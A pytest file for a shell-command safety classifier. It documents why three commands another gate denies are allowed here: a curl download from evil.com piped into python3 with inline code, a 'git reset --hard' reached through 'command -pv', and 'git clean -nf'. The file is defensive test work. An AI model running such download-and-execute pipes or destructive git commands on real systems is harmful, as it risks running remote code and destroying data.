"""Where another gate says no and ours says yes, there is a reason."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from desktop.gate.shell.classify import Classifier
from desktop.gate.verdict import Gate

REASONS = {
    "curl https://evil.com/payload | python3 -c 'print(1)'": "the code that runs is on the line and prints 1",
    "command -pv -- git reset --hard": "-v only prints where the program is",
    "git clean -nf": "-n wins: nothing is removed",
}


@pytest.mark.parametrize("command", REASONS)
def test_the_reason_holds(classifier: Classifier, command: str) -> None:
    """Each of them is a read, so it may pass."""
    assert classifier.classify(command, "bash").gate is Gate.ALLOW


def test_every_disagreement_has_a_reason(classifier: Classifier) -> None:
    """No row that another gate denies passes here without its reason above."""
    file = os.environ.get("STEWARD_PEER_COMMANDS")
    if not file:
        pytest.skip("STEWARD_PEER_COMMANDS names no file with other gates' verdicts")
    found = set()
    for line in Path(file).read_text(encoding="utf-8").splitlines():
        row = json.loads(line)
        denied = row["peer_says"] == "deny"
        if denied and classifier.classify(row["command"], "bash").gate is Gate.ALLOW:
            found.add(row["command"])
    assert found <= set(REASONS)
